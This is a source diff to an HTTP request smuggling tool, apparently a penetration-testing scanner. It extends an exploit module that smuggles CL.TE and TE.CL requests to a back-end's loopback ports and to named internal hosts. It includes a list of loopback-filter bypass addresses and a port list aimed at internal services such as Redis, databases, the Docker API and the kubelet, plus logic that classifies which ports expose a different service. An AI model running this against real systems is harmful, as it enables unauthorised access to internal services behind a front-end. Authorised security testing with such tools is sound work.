@@ -1,10 +1,12 @@
 use crate::error::{Result, SmugglexError};
-use crate::http::send_request;
+use crate::http::{HttpResponse, send_request};
+use crate::model::LocalhostPortResult;
 use crate::utils::parse_status_code;
 use colored::*;
+use std::fmt;
 use std::time::Duration;
 
-use super::{VulnerabilityContext, extract_body};
+use super::{ExploitBudget, VulnerabilityContext};
 
 // HTTP status codes for localhost access detection
 const HTTP_FORBIDDEN: u16 = 403;
@@ -13,6 +15,76 @@ const HTTP_BAD_GATEWAY: u16 = 502;
 const HTTP_SERVICE_UNAVAILABLE: u16 = 503;
 const HTTP_GATEWAY_TIMEOUT: u16 = 504;
 
+/// Port assumed closed on any host, smuggled to first as a control: ports
+/// that answer exactly like it are treated as filtered.
+const CONTROL_PORT: u16 = 1;
+/// Name no internal service can have, smuggled to first as the control for
+/// `--exploit-hosts`: names that answer exactly like it are treated as
+/// filtered, since an unknown name usually gets the default virtual host.
+const CONTROL_HOST: &str = "smugglex-control.invalid";
+/// Number of most-likely ports probed before deciding whether the back-end's
+/// responses vary with the smuggled port at all.
+const PROBE_SET_SIZE: usize = 3;
+/// Requests sent per smuggling attempt: the smuggle and the probe behind it.
+pub(super) const REQUESTS_PER_ATTEMPT: usize = 2;
+/// Body-length tolerance (percent) within which two responses are considered
+/// the same shape.
+const SHAPE_BODY_TOLERANCE_PCT: usize = 10;
+
+/// Representations of the loopback host placed in the smuggled request's
+/// `Host`, canonical first. Front-end filters often block only `127.0.0.1` /
+/// `localhost`, so the alternates are tried whenever a port shows no distinct
+/// service through the canonical form.
+pub const LOOPBACK_HOSTS: &[&str] = &[
+    "127.0.0.1",
+    "127.0.0.2",
+    "0.0.0.0",
+    "[::1]",
+    "0177.0.0.1",
+    "2130706433",
+    "localhost.",
+];
+
+/// Common internal service ports grouped by how often they are reachable
+/// behind a front-end: web/app servers first, then admin and data stores.
+/// Ports not listed are tried last, in the order given.
+const PORT_LIKELIHOOD_TIERS: &[&[u16]] = &[
+    &[80, 8080, 443, 8000, 8443, 3000, 5000],
+    &[8081, 8888, 9000, 9090, 8001, 8008, 4000],
+    &[22, 6379, 3306, 5432, 9200, 11211, 27017, 2375, 10250],
+];
+
+/// What smuggling a request to a localhost port revealed.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PortVerdict {
+    /// The response differs from both the application and a closed port
+    OpenDifferentService,
+    /// The response matches the application's own baseline
+    SameApp,
+    /// No usable response, a routing error, or the same answer as a closed port
+    Filtered,
+    /// Not tested: earlier probes showed responses do not vary with the port
+    Skipped,
+}
+
+impl PortVerdict {
+    /// Name used in output.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            PortVerdict::OpenDifferentService => "open-different-service",
+            PortVerdict::SameApp => "same-app",
+            PortVerdict::Filtered => "filtered",
+            PortVerdict::Skipped => "skipped",
+        }
+    }
+}
+
+impl fmt::Display for PortVerdict {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
 /// Result of a localhost access attempt
 #[derive(Debug)]
 pub struct LocalhostAccessResult {
@@ -21,6 +93,161 @@ pub struct LocalhostAccessResult {
     pub reason: String,
     pub response_status: Option<String>,
     pub response_body: Option<String>,
+    pub verdict: PortVerdict,
+    /// Loopback representation used in the smuggled `Host` for this result;
+    /// empty when it named an internal host instead
+    pub loopback_host: String,
+    /// `--exploit-hosts` name used in the smuggled `Host` for this result
+    pub internal_host: Option<String>,
+}
+
+impl LocalhostAccessResult {
+    /// A port left untested, for `reason`.
+    fn skipped(port: u16, reason: String) -> Self {
+        LocalhostAccessResult {
+            port,
+            success: false,
+            reason,
+            response_status: None,
+            response_body: None,
+            verdict: PortVerdict::Skipped,
+            loopback_host: LOOPBACK_HOSTS[0].to_string(),
+            internal_host: None,
+        }
+    }
+
+    /// What the smuggled request addressed: `8080`, or `admin.internal:8080`
+    /// for an internal host.
+    pub fn target(&self) -> String {
+        match self.internal_host {
+            Some(ref host) => format!("{}:{}", host, self.port),
+            None => self.port.to_string(),
+        }
+    }
+}
+
+impl From<&LocalhostAccessResult> for LocalhostPortResult {
+    fn from(result: &LocalhostAccessResult) -> Self {
+        LocalhostPortResult {
+            port: result.port,
+            success: result.success,
+            verdict: result.verdict.as_str().to_string(),
+            loopback_host: result.loopback_host.clone(),
+            internal_host: result.internal_host.clone(),
+            reason: result.reason.clone(),
+            response_status: result.response_status.clone(),
+        }
+    }
+}
+
+/// Status code and body size of a probe response, compared between ports.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) struct ResponseShape {
+    status_code: Option<u16>,
+    body_len: usize,
+}
+
+impl ResponseShape {
+    pub(super) fn new(status: &str, body: &str) -> Self {
+        ResponseShape {
+            status_code: parse_status_code(status),
+            body_len: body.len(),
+        }
+    }
+
+    pub(super) fn of(result: &LocalhostAccessResult) -> Option<Self> {
+        let status = result.response_status.as_deref()?;
+        Some(Self::new(
+            status,
+            result.response_body.as_deref().unwrap_or(""),
+        ))
+    }
+
+    /// Same status and body length within [`SHAPE_BODY_TOLERANCE_PCT`].
+    pub(super) fn matches(&self, other: &ResponseShape) -> bool {
+        if self.status_code != other.status_code {
+            return false;
+        }
+        let (small, large) = if self.body_len <= other.body_len {
+            (self.body_len, other.body_len)
+        } else {
+            (other.body_len, self.body_len)
+        };
+        large == 0 || (large - small) * 100 <= large * SHAPE_BODY_TOLERANCE_PCT
+    }
+}
+
+/// Ports of a comma-separated `--exploit-ports` list, ignoring entries that
+/// are not port numbers.
+pub fn parse_ports(ports: &str) -> Vec<u16> {
+    ports
+        .split(',')
+        .filter_map(|s| s.trim().parse::<u16>().ok())
+        .collect()
+}
+
+/// Host names of a comma-separated `--exploit-hosts` list, ignoring entries
+/// that are not host names or addresses, and duplicates.
+pub fn parse_hosts(hosts: &str) -> Vec<String> {
+    let mut parsed: Vec<String> = Vec::new();
+    for host in hosts.split(',').map(str::trim) {
+        let valid = !host.is_empty()
+            && host
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'));
+        if valid && !parsed.iter().any(|h| h.eq_ignore_ascii_case(host)) {
+            parsed.push(host.to_string());
+        }
+    }
+    parsed
+}
+
+/// Order ports by likelihood tier, keeping the user's order within a tier and
+/// dropping duplicates.
+pub fn order_ports_by_likelihood(ports: &[u16]) -> Vec<u16> {
+    let tier_of = |port: u16| {
+        PORT_LIKELIHOOD_TIERS
+            .iter()
+            .position(|tier| tier.contains(&port))
+            .unwrap_or(PORT_LIKELIHOOD_TIERS.len())
+    };
+    let mut ordered: Vec<u16> = Vec::with_capacity(ports.len());
+    for &port in ports {
+        if !ordered.contains(&port) {
+            ordered.push(port);
+        }
+    }
+    ordered.sort_by_key(|&port| tier_of(port));
+    ordered
+}
+
+/// Classify a port from its probe response relative to the application
+/// baseline and the closed-port control.
+pub(super) fn classify_port(
+    result: &LocalhostAccessResult,
+    baseline: &ResponseShape,
+    control: Option<&ResponseShape>,
+) -> PortVerdict {
+    let Some(shape) = ResponseShape::of(result) else {
+        return PortVerdict::Filtered;
+    };
+    if matches!(
+        shape.status_code,
+        Some(HTTP_BAD_GATEWAY | HTTP_SERVICE_UNAVAILABLE | HTTP_GATEWAY_TIMEOUT)
+    ) {
+        return PortVerdict::Filtered;
+    }
+    if let Some(control) = control
+        && !control.matches(baseline)
+        && shape.matches(control)
+    {
+        return PortVerdict::Filtered;
+    }
+    if shape.matches(baseline) {
+        PortVerdict::SameApp
+    } else {
+        PortVerdict::OpenDifferentService
+    }
 }
 
 #[derive(Debug)]
@@ -33,11 +260,18 @@ pub struct LocalhostAccessParams<'a> {
     pub verbose: bool,
     pub vuln_ctx: &'a VulnerabilityContext,
     pub localhost_ports: &'a [u16],
+    /// Internal host names smuggled to on every port after the loopback ones
+    pub internal_hosts: &'a [String],
     pub delay: u64,
+    /// Stop once this many requests have been sent; untested ports are
+    /// reported as skipped
+    pub max_requests: Option<usize>,
+    /// Caps shared with the other exploits, also reported as skipped
+    pub budget: &'a ExploitBudget,
 }
 
 #[derive(Debug)]
-struct SinglePortTestParams<'a> {
+pub(super) struct SinglePortTestParams<'a> {
     pub host: &'a str,
     pub port: u16,
     pub path: &'a str,
@@ -46,6 +280,7 @@ struct SinglePortTestParams<'a> {
     pub verbose: bool,
     pub vuln_ctx: &'a VulnerabilityContext,
     pub localhost_port: u16,
+    pub loopback_host: &'a str,
     pub baseline_status: &'a str,
     pub baseline_body: &'a str,
     pub baseline_duration: Duration,
@@ -54,6 +289,7 @@ struct SinglePortTestParams<'a> {
 #[derive(Debug)]
 struct AnalyzeLocalhostParams<'a> {
     pub localhost_port: u16,
+    pub loopback_host: &'a str,
     pub probe_status: &'a str,
     pub probe_body: &'a str,
     pub probe_duration: Duration,
@@ -63,41 +299,165 @@ struct AnalyzeLocalhostParams<'a> {
     pub verbose: bool,
 }
 
+/// The application's own answer to a plain GET of the scanned path.
+#[derive(Debug)]
+pub(super) struct Baseline {
+    pub status: String,
+    pub body: String,
+    pub duration: Duration,
+}
+
+impl Baseline {
+    pub(super) fn shape(&self) -> ResponseShape {
+        ResponseShape::new(&self.status, &self.body)
+    }
+}
+
+/// Fetch the [`Baseline`] probe responses are compared with.
+pub(super) async fn fetch_baseline(
+    host: &str,
+    port: u16,
+    path: &str,
+    timeout: u64,
+    verbose: bool,
+    use_tls: bool,
+) -> Result<Baseline> {
+    let baseline_request = format!(
+        "GET {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
+        path, host
+    );
+    let (baseline_response, duration) =
+        send_request(host, port, &baseline_request, timeout, verbose, use_tls).await?;
+    let baseline = HttpResponse::parse(baseline_response.as_bytes());
+    let body = baseline.text_after_head();
+    let status = baseline.status_line;
+
+    if verbose {
+        println!(
+            "\n{} Baseline response: {} ({}ms)",
+            "[*]".cyan(),
+            status.bold(),
+            duration.as_millis()
+        );
+    }
+    Ok(Baseline {
+        status,
+        body,
+        duration,
+    })
+}
+
 /// Test localhost access using detected smuggling vulnerability
 pub async fn test_localhost_access(
     params: &LocalhostAccessParams<'_>,
 ) -> Result<Vec<LocalhostAccessResult>> {
     let mut results = Vec::new();
+    let ordered = order_ports_by_likelihood(params.localhost_ports);
+    let skip_all = |ordered: &[u16]| {
+        let reason = format!("Skipped: {}", params.budget.exhausted_reason());
+        ordered
+            .iter()
+            .map(|&port| LocalhostAccessResult::skipped(port, reason.clone()))
+            .collect::<Vec<_>>()
+    };
+    if !params.budget.take(1 + REQUESTS_PER_ATTEMPT) {
+        return Ok(skip_all(&ordered));
+    }
 
     // Get baseline response for comparison
-    let baseline_request = format!(
-        "GET {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
-        params.path, params.host
-    );
-    let (baseline_response, baseline_duration) = send_request(
+    let baseline = fetch_baseline(
         params.host,
         params.port,
-        &baseline_request,
+        params.path,
         params.timeout,
         params.verbose,
         params.use_tls,
     )
     .await?;
-    let baseline_status = baseline_response.lines().next().unwrap_or("").to_string();
-    let baseline_body = extract_body(&baseline_response);
 
+    let baseline_shape = baseline.shape();
+    let single_params = |localhost_port, loopback_host| SinglePortTestParams {
+        host: params.host,
+        port: params.port,
+        path: params.path,
+        use_tls: params.use_tls,
+        timeout: params.timeout,
+        verbose: params.verbose,
+        vuln_ctx: params.vuln_ctx,
+        localhost_port,
+        loopback_host,
+        baseline_status: &baseline.status,
+        baseline_body: &baseline.body,
+        baseline_duration: baseline.duration,
+    };
+
+    // Heuristic pass: smuggle to a closed port first so ports answering the
+    // same way can be recognised as filtered.
     if params.verbose {
         println!(
-            "\n{} Baseline response: {} ({}ms)",
+            "\n{} Probing closed control port {}...",
             "[*]".cyan(),
-            baseline_status.bold(),
-            baseline_duration.as_millis()
+            CONTROL_PORT
         );
     }
+    // Each attempt is a smuggle plus a probe, on top of the baseline.
+    let mut sent = 1;
+    // Checked right before each attempt, which it takes from the shared budget.
+    let within_budget = |sent: usize| {
+        params
+            .max_requests
+            .is_none_or(|max| sent + REQUESTS_PER_ATTEMPT <= max)
+            && params.budget.take(REQUESTS_PER_ATTEMPT)
+    };
+    let control = test_single_port(&single_params(CONTROL_PORT, LOOPBACK_HOSTS[0])).await?;
+    sent += REQUESTS_PER_ATTEMPT;
+    let control_shape = ResponseShape::of(&control);
+    let control_like_baseline = control_shape
+        .as_ref()
+        .is_none_or(|shape| shape.matches(&baseline_shape));
 
-    // Test each localhost port
-    for (i, &localhost_port) in params.localhost_ports.iter().enumerate() {
-        if params.delay > 0 && i > 0 {
+    for (i, &localhost_port) in ordered.iter().enumerate() {
+        // When neither the control nor the most likely ports changed anything,
+        // the back-end's answers do not depend on the smuggled port: the rest
+        // would only repeat the same response.
+        if i == PROBE_SET_SIZE
+            && control_like_baseline
+            && results
+                .iter()
+                .all(|r: &LocalhostAccessResult| r.verdict == PortVerdict::SameApp)
+        {
+            if params.verbose {
+                println!(
+                    "\n{} First {} ports answered like the application itself; skipping {} remaining",
+                    "[*]".cyan(),
+                    PROBE_SET_SIZE,
+                    ordered.len() - i
+                );
+            }
+            results.extend(ordered[i..].iter().map(|&port| {
+                LocalhostAccessResult::skipped(
+                    port,
+                    format!(
+                        "Skipped: the first {} ports and a closed port all answered like the application",
+                        PROBE_SET_SIZE
+                    ),
+                )
+            }));
+            break;
+        }
+        if !within_budget(sent) {
+            if params.verbose {
+                println!(
+                    "\n{} {}; skipping {} remaining ports",
+                    "[*]".cyan(),
+                    params.budget.exhausted_reason(),
+                    ordered.len() - i
+                );
+            }
+            results.extend(skip_all(&ordered[i..]));
+            break;
+        }
+        if params.delay > 0 {
             tokio::time::sleep(Duration::from_millis(params.delay)).await;
         }
         if params.verbose {
@@ -108,33 +468,110 @@ pub async fn test_localhost_access(
             );
         }
 
-        let single_params = SinglePortTestParams {
-            host: params.host,
-            port: params.port,
-            path: params.path,
-            use_tls: params.use_tls,
-            timeout: params.timeout,
-            verbose: params.verbose,
-            vuln_ctx: params.vuln_ctx,
-            localhost_port,
-            baseline_status: &baseline_status,
-            baseline_body: &baseline_body,
-            baseline_duration,
-        };
-        let result = test_single_port(&single_params).await?;
+        // Canonical form first; alternates only while no distinct service
+        // has shown up. The canonical result is reported when none does.
+        let mut reported: Option<LocalhostAccessResult> = None;
+        for (j, &loopback_host) in LOOPBACK_HOSTS.iter().enumerate() {
+            if j > 0 && !within_budget(sent) {
+                break;
+            }
+            if j > 0 && params.delay > 0 {
+                tokio::time::sleep(Duration::from_millis(params.delay)).await;
+            }
+            let mut result =
+                test_single_port(&single_params(localhost_port, loopback_host)).await?;
+            sent += REQUESTS_PER_ATTEMPT;
+            result.verdict = classify_port(&result, &baseline_shape, control_shape.as_ref());
+            if params.verbose {
+                println!(
+                    "  {} Verdict via {}: {}",
+                    "[*]".cyan(),
+                    loopback_host,
+                    result.verdict
+                );
+            }
+            if result.verdict == PortVerdict::OpenDifferentService {
+                reported = Some(result);
+                break;
+            }
+            if reported.is_none() {
+                reported = Some(result);
+            }
+        }
 
-        results.push(result);
+        results.extend(reported);
+    }
+
+    if params.internal_hosts.is_empty() {
+        return Ok(results);
+    }
+
+    // Name-routed services: every port of every internal host, compared with
+    // a name that cannot exist rather than the closed port.
+    let control_port = ordered.first().copied().unwrap_or(80);
+    let name_control = if within_budget(sent) {
+        if params.verbose {
+            println!(
+                "\n{} Probing unknown control host {}...",
+                "[*]".cyan(),
+                CONTROL_HOST
+            );
+        }
+        let control = test_single_port(&single_params(control_port, CONTROL_HOST)).await?;
+        sent += REQUESTS_PER_ATTEMPT;
+        ResponseShape::of(&control)
+    } else {
+        None
+    };
+    for internal_host in params.internal_hosts {
+        for &localhost_port in &ordered {
+            if !within_budget(sent) {
+                let mut result = LocalhostAccessResult::skipped(
+                    localhost_port,
+                    format!("Skipped: {}", params.budget.exhausted_reason()),
+                );
+                result.loopback_host.clear();
+                result.internal_host = Some(internal_host.clone());
+                results.push(result);
+                continue;
+            }
+            if params.delay > 0 {
+                tokio::time::sleep(Duration::from_millis(params.delay)).await;
+            }
+            if params.verbose {
+                println!(
+                    "\n{} Testing internal host {}...",
+                    "[*]".cyan(),
+                    format!("{}:{}", internal_host, localhost_port).yellow()
+                );
+            }
+            let mut result =
+                test_single_port(&single_params(localhost_port, internal_host)).await?;
+            sent += REQUESTS_PER_ATTEMPT;
+            result.verdict = classify_port(&result, &baseline_shape, name_control.as_ref());
+            result.loopback_host.clear();
+            result.internal_host = Some(internal_host.clone());
+            if params.verbose {
+                println!("  {} Verdict: {}", "[*]".cyan(), result.verdict);
+            }
+            results.push(result);
+        }
     }
 
     Ok(results)
 }
 
-async fn test_single_port(params: &SinglePortTestParams<'_>) -> Result<LocalhostAccessResult> {
+/// Smuggle a request for `loopback_host:localhost_port` and read the probe
+/// response behind it. The verdict is left for the caller to classify.
+pub(super) async fn test_single_port(
+    params: &SinglePortTestParams<'_>,
+) -> Result<LocalhostAccessResult> {
     // Generate localhost access payload based on vulnerability type
     let smuggling_payload = generate_localhost_payload(
         params.vuln_ctx,
         params.path,
         params.host,
+        params.loopback_host,
         params.localhost_port,
         params.verbose,
     );
@@ -173,12 +610,14 @@ async fn test_single_port(params: &SinglePortTestParams<'_>) -> Result<Localhost
             .await
             {
                 Ok((probe_response, probe_duration)) => {
-                    let probe_status = probe_response.lines().next().unwrap_or("").to_string();
-                    let probe_body = extract_body(&probe_response);
+                    let probe = HttpResponse::parse(probe_response.as_bytes());
+                    let probe_body = probe.text_after_head();
+                    let probe_status = probe.status_line;
 
                     // Analyze response to detect localhost access
                     let analyze_params = AnalyzeLocalhostParams {
                         localhost_port: params.localhost_port,
+                        loopback_host: params.loopback_host,
                         probe_status: &probe_status,
                         probe_body: &probe_body,
                         probe_duration,
@@ -191,7 +630,7 @@ async fn test_single_port(params: &SinglePortTestParams<'_>) -> Result<Localhost
                 }
                 Err(e) => {
                     // Connection errors might indicate successful smuggling
-                    if matches!(e, SmugglexError::Timeout(_)) {
+                    if matches!(e, SmugglexError::Timeout { .. }) {
                         Ok(LocalhostAccessResult {
                             port: params.localhost_port,
                             success: true,
@@ -200,6 +639,9 @@ async fn test_single_port(params: &SinglePortTestParams<'_>) -> Result<Localhost
                                     .to_string(),
                             response_status: None,
                             response_body: None,
+                            verdict: PortVerdict::Filtered,
+                            loopback_host: params.loopback_host.to_string(),
+                            internal_host: None,
                         })
                     } else {
                         Ok(LocalhostAccessResult {
@@ -208,6 +650,9 @@ async fn test_single_port(params: &SinglePortTestParams<'_>) -> Result<Localhost
                             reason: format!("Probe request failed: {}", e),
                             response_status: None,
                             response_body: None,
+                            verdict: PortVerdict::Filtered,
+                            loopback_host: params.loopback_host.to_string(),
+                            internal_host: None,
                         })
                     }
                 }
@@ -219,6 +664,9 @@ async fn test_single_port(params: &SinglePortTestParams<'_>) -> Result<Localhost
             reason: format!("Smuggling request failed: {}", e),
             response_status: None,
             response_body: None,
+            verdict: PortVerdict::Filtered,
+            loopback_host: params.loopback_host.to_string(),
+            internal_host: None,
         }),
     }
 }
@@ -227,15 +675,16 @@ fn generate_localhost_payload(
     vuln_ctx: &VulnerabilityContext,
     path: &str,
     host: &str,
+    loopback_host: &str,
     localhost_port: u16,
     verbose: bool,
 ) -> String {
     let vuln_type_lower = vuln_ctx.vuln_type.to_lowercase();
 
     let payload = if vuln_type_lower.contains("cl-te") || vuln_type_lower.contains("clte") {
-        generate_clte_localhost_payload(path, host, localhost_port)
+        generate_clte_localhost_payload(path, host, loopback_host, localhost_port)
     } else if vuln_type_lower.contains("te-cl") || vuln_type_lower.contains("tecl") {
-        generate_tecl_localhost_payload(path, host, localhost_port)
+        generate_tecl_localhost_payload(path, host, loopback_host, localhost_port)
     } else {
         if verbose {
             println!(
@@ -244,13 +693,14 @@ fn generate_localhost_payload(
                 vuln_ctx.vuln_type
             );
         }
-        generate_clte_localhost_payload(path, host, localhost_port)
+        generate_clte_localhost_payload(path, host, loopback_host, localhost_port)
     };
 
     if verbose {
         println!(
-            "  {} Generated localhost payload for port {}",
+            "  {} Generated localhost payload for {}:{}",
             "[*]".cyan(),
+            loopback_host,
             localhost_port
         );
     }
@@ -258,13 +708,18 @@ fn generate_localhost_payload(
     payload
 }
 
-fn generate_clte_localhost_payload(path: &str, host: &str, localhost_port: u16) -> String {
+fn generate_clte_localhost_payload(
+    path: &str,
+    host: &str,
+    loopback_host: &str,
+    localhost_port: u16,
+) -> String {
     let smuggled_request = format!(
         "GET / HTTP/1.1\r\n\
-         Host: 127.0.0.1:{}\r\n\
+         Host: {}:{}\r\n\
          Connection: close\r\n\
          \r\n",
-        localhost_port
+        loopback_host, localhost_port
     );
 
     format!(
@@ -288,13 +743,18 @@ fn generate_clte_localhost_payload(path: &str, host: &str, localhost_port: u16)
     )
 }
 
-fn generate_tecl_localhost_payload(path: &str, host: &str, localhost_port: u16) -> String {
+fn generate_tecl_localhost_payload(
+    path: &str,
+    host: &str,
+    loopback_host: &str,
+    localhost_port: u16,
+) -> String {
     let smuggled_request = format!(
         "GET / HTTP/1.1\r\n\
-         Host: 127.0.0.1:{}\r\n\
+         Host: {}:{}\r\n\
          Connection: close\r\n\
          \r\n",
-        localhost_port
+        loopback_host, localhost_port
     );
 
     let chunk_data = "X";
@@ -417,6 +877,10 @@ fn analyze_localhost_response(
         reason,
         response_status: Some(params.probe_status.to_string()),
         response_body: Some(params.probe_body.to_string()),
+        // Classified by the caller once the control response is known.
+        verdict: PortVerdict::Filtered,
+        loopback_host: params.loopback_host.to_string(),
+        internal_host: None,
     })
 }
 
@@ -454,12 +918,21 @@ pub fn print_localhost_results(results: &[LocalhostAccessResult], target_url: &s
         );
     } else {
         for result in &successful {
+            let (title, on) = match result.internal_host {
+                Some(_) => ("Internal Host Access Successful", ""),
+                None => ("Localhost Access Successful", "port "),
+            };
             println!(
-                "{} {} on port {}",
+                "{} {} on {}{}",
                 "[+]".green().bold(),
-                "Localhost Access Successful".green().bold(),
-                result.port.to_string().yellow().bold()
+                title.green().bold(),
+                on,
+                result.target().yellow().bold()
             );
+            println!("  {} {}", "Verdict:".bold(), result.verdict);
+            if result.internal_host.is_none() {
+                println!("  {} {}", "Loopback Host:".bold(), result.loopback_host);
+            }
             println!("  {} {}", "Reason:".bold(), result.reason);
             if let Some(ref status) = result.response_status {
                 println!("  {} {}", "Response Status:".bold(), status);
@@ -468,14 +941,42 @@ pub fn print_localhost_results(results: &[LocalhostAccessResult], target_url: &s
         }
     }
 
+    println!("{}", "Port Verdicts:".bold());
+    for verdict in [
+        PortVerdict::OpenDifferentService,
+        PortVerdict::SameApp,
+        PortVerdict::Filtered,
+        PortVerdict::Skipped,
+    ] {
+        let ports: Vec<String> = results
+            .iter()
+            .filter(|r| r.verdict == verdict)
+            .map(LocalhostAccessResult::target)
+            .collect();
+        if ports.is_empty() {
+            continue;
+        }
+        let label = match verdict {
+            PortVerdict::OpenDifferentService => verdict.as_str().green().bold(),
+            PortVerdict::SameApp => verdict.as_str().yellow(),
+            PortVerdict::Filtered | PortVerdict::Skipped => verdict.as_str().dimmed(),
+        };
+        println!("  {:<24} {}", label, ports.join(", "));
+    }
+
     // Show failed attempts if verbose or all failed
     if successful.len() < results.len() {
+        println!();
         println!("{}", "Failed Attempts:".bold());
-        for result in results.iter().filter(|r| !r.success) {
+        for result in results
+            .iter()
+            .filter(|r| !r.success && r.verdict != PortVerdict::Skipped)
+        {
             println!(
-                "{} Port {} - {}",
+                "{} {} ({}) - {}",
                 "[-]".red(),
-                result.port,
+                result.target(),
+                result.verdict,
                 result.reason.dimmed()
             );
         }
@@ -495,21 +996,83 @@ mod tests {
             .expect("numeric Content-Length")
     }
 
+    fn probe(status: Option<&str>, body: &str) -> LocalhostAccessResult {
+        LocalhostAccessResult {
+            port: 8080,
+            success: false,
+            reason: String::new(),
+            response_status: status.map(str::to_string),
+            response_body: Some(body.to_string()),
+            verdict: PortVerdict::Filtered,
+            loopback_host: LOOPBACK_HOSTS[0].to_string(),
+            internal_host: None,
+        }
+    }
+
+    #[test]
+    fn order_ports_by_likelihood_tiers_and_dedups() {
+        assert_eq!(
+            order_ports_by_likelihood(&[6379, 12345, 8081, 80, 6379, 22]),
+            vec![80, 8081, 6379, 22, 12345]
+        );
+    }
+
+    #[test]
+    fn classify_port_against_baseline_and_control() {
+        let baseline = ResponseShape::new("HTTP/1.1 200 OK", &"a".repeat(100));
+        let control = ResponseShape::new("HTTP/1.1 400 Bad Request", "closed");
+
+        let same = probe(Some("HTTP/1.1 200 OK"), &"b".repeat(95));
+        assert_eq!(
+            classify_port(&same, &baseline, Some(&control)),
+            PortVerdict::SameApp
+        );
+        let closed = probe(Some("HTTP/1.1 400 Bad Request"), "closed");
+        assert_eq!(
+            classify_port(&closed, &baseline, Some(&control)),
+            PortVerdict::Filtered
+        );
+        let other = probe(Some("HTTP/1.1 401 Unauthorized"), "admin login");
+        assert_eq!(
+            classify_port(&other, &baseline, Some(&control)),
+            PortVerdict::OpenDifferentService
+        );
+        let gateway = probe(Some("HTTP/1.1 502 Bad Gateway"), "");
+        assert_eq!(
+            classify_port(&gateway, &baseline, None),
+            PortVerdict::Filtered
+        );
+        assert_eq!(
+            classify_port(&probe(None, ""), &baseline, None),
+            PortVerdict::Filtered
+        );
+    }
+
     #[test]
     fn clte_localhost_payload_content_length_matches_forwarded_body() {
         // For CL.TE the front-end forwards Content-Length bytes, which must be
         // the *entire* body (chunked terminator + smuggled request). A mismatch
         // stalls the smuggle waiting for bytes that never arrive.
-        let payload = generate_clte_localhost_payload("/", "example.com", 8080);
+        let payload = generate_clte_localhost_payload("/", "example.com", "127.0.0.1", 8080);
         let (head, body) = payload.split_once("\r\n\r\n").unwrap();
         assert_eq!(content_length(head), body.len());
     }
 
+    #[test]
+    fn localhost_payload_uses_loopback_representation() {
+        for &loopback in LOOPBACK_HOSTS {
+            let payload = generate_clte_localhost_payload("/", "example.com", loopback, 6379);
+            assert!(payload.contains(&format!("Host: {}:6379\r\n", loopback)));
+        }
+        let payload = generate_tecl_localhost_payload("/", "example.com", "[::1]", 80);
+        assert!(payload.contains("Host: [::1]:80\r\n"));
+    }
+
     #[test]
     fn tecl_localhost_payload_backend_cl_consumes_only_first_chunk_line() {
         // TE.CL: the back-end Content-Length must consume exactly "1\r\nX\r\n"
         // (6 bytes), leaving the smuggled localhost request as the next request.
-        let payload = generate_tecl_localhost_payload("/", "example.com", 8080);
+        let payload = generate_tecl_localhost_payload("/", "example.com", "127.0.0.1", 8080);
         let (head, body) = payload.split_once("\r\n\r\n").unwrap();
         let cl = content_length(head);
         assert_eq!(&body.as_bytes()[..cl], b"1\r\nX\r\n");